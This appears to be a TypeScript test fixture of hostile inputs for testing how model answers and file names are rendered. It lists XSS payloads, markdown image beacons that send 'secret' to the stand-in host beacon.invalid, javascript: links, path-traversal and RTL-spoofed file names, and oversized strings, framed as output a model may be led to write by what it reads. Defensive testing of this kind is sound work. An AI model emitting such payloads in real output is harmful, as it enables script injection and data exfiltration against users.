/** What an answer must not do shows as a request for this host, or as `ran` in the page's global scope. */
export const BEACON = 'beacon.invalid';
const RUN = 'globalThis.ran=true';

/** Texts that a model may be led to write by what it reads, by what they are about. */
export const HOSTILE_ANSWERS: readonly (readonly [what: string, text: string])[] = [
  ['a script', `The rent is due. <script>${RUN}</script> <script src="https://${BEACON}/a.js"></script>`],
  [
    'events of elements',
    `<img src=x onerror="${RUN}"><svg onload="${RUN}"></svg><details open ontoggle="${RUN}">`,
  ],
  [
    'a picture as a beacon',
    `![rent](https://${BEACON}/pixel.png?q=secret) and ![rent][1]\n\n[1]: https://${BEACON}/2.png`,
  ],
  ['pictures in HTML', `<picture><source srcset="//${BEACON}/s.png"><img src="//${BEACON}/i.png"></picture>`],
  [
    'links that run',
    `[rent](javascript:${RUN}) [rent](data:text/html,<script>${RUN}</script>) <javascript:${RUN}>`,
  ],
  [
    'links that lead away',
    `[the lease](https://${BEACON}/?q=secret "title") <https://${BEACON}/> https://${BEACON}/bare`,
  ],
  [
    'styles',
    `<style>@import "https://${BEACON}/s.css"; * { display: none }</style><p style="position:fixed">`,
  ],
  [
    'frames',
    `<iframe srcdoc="<script>parent.ran=true</script>"></iframe><object data="//${BEACON}/"></object>`,
  ],
  [
    'what loads before it is shown',
    `<link rel=preload as=image href="//${BEACON}/p.png"><meta http-equiv=refresh content="0;url=//${BEACON}">`,
  ],
  [
    'a form',
    `<form action="https://${BEACON}/"><input autofocus onfocus="${RUN}"><button>Answer</button></form>`,
  ],
  ['text that is turned around', `The rent is \u202E000,1\u202C euros \u2067due\u2069 \u061C\u200F now.`],
  ['invisible characters', `The${'\u200B'.repeat(2000)} rent${'\u2060\uFEFF\u00AD'.repeat(500)} is due.`],
  ['a word of 10,000 letters', `The rent is ${'x'.repeat(10_000)} due.`],
  ['a word of 10,000 signs', `${'*'.repeat(3000)}${'_'.repeat(3000)}${'~'.repeat(4000)}`],
  ['lists 1,000 deep', `${'- '.repeat(1000)}rent`],
  ['quotes and lists by turns', `${'> - 1. '.repeat(12)}rent\n\n${'  '.repeat(60)}- rent`],
  ['100,000 brackets', '['.repeat(50_000) + ']('.repeat(25_000)],
  ['100,000 backticks', `${'`'.repeat(99_999)} rent`],
  [
    'a table of 200 columns',
    `| ${'column | '.repeat(200)}\n|${' - |'.repeat(200)}\n| ${'wide_cell | '.repeat(200)}`,
  ],
  [
    'stacked characters and long emoji',
    `R${'\u0301\u0325'.repeat(600)}ent ${'👩‍👩‍👧‍👦'.repeat(400)} ${'🏳️‍🌈'.repeat(200)} ﷽﷽﷽ ${'𒐫'.repeat(200)}`,
  ],
  ['marks that do not resolve', 'The rent is due. [7] It is paid. [0] [999] [-1]'],
];

/** Names that a file may have, or that may be made for one. */
export const HOSTILE_NAMES: readonly string[] = [
  `<img src=x onerror=${RUN}>.txt`,
  `<script>${RUN}<\u2215script>.txt`,
  `"><svg onload=${RUN}>.txt`,
  `\${${RUN}}{{${RUN}}}.txt`,
  `javascript:${RUN}.txt`,
  `https:\u2215\u2215${BEACON}\u2215name.txt`,
  `![name](https://${BEACON}/name.png).txt`,
  '../../../etc/passwd.txt',
  '..\\..\\windows\\system32.txt',
  'invoice\u202Efdp.txt',
  '\u2067\u202Ereversed\u2069.txt',
  'zero\u200Bwidth\u200B\uFEFF\u00ADname.txt',
  'line\nbreak\ttab\u0000null\u0007bell.txt',
  `${'x'.repeat(10_000)}.txt`,
  `${'very long name '.repeat(300)}.txt`,
  `${'👩‍👩‍👧‍👦'.repeat(300)}.txt`,
  `zalgo ${'z\u0301\u0325\u035C'.repeat(1)}${'\u0301'.repeat(900)}.txt`,
  'עקד שכירות.txt',
  'عقد الإيجار (نسخة 2).txt',
  '__proto__',
  ' .txt',
];
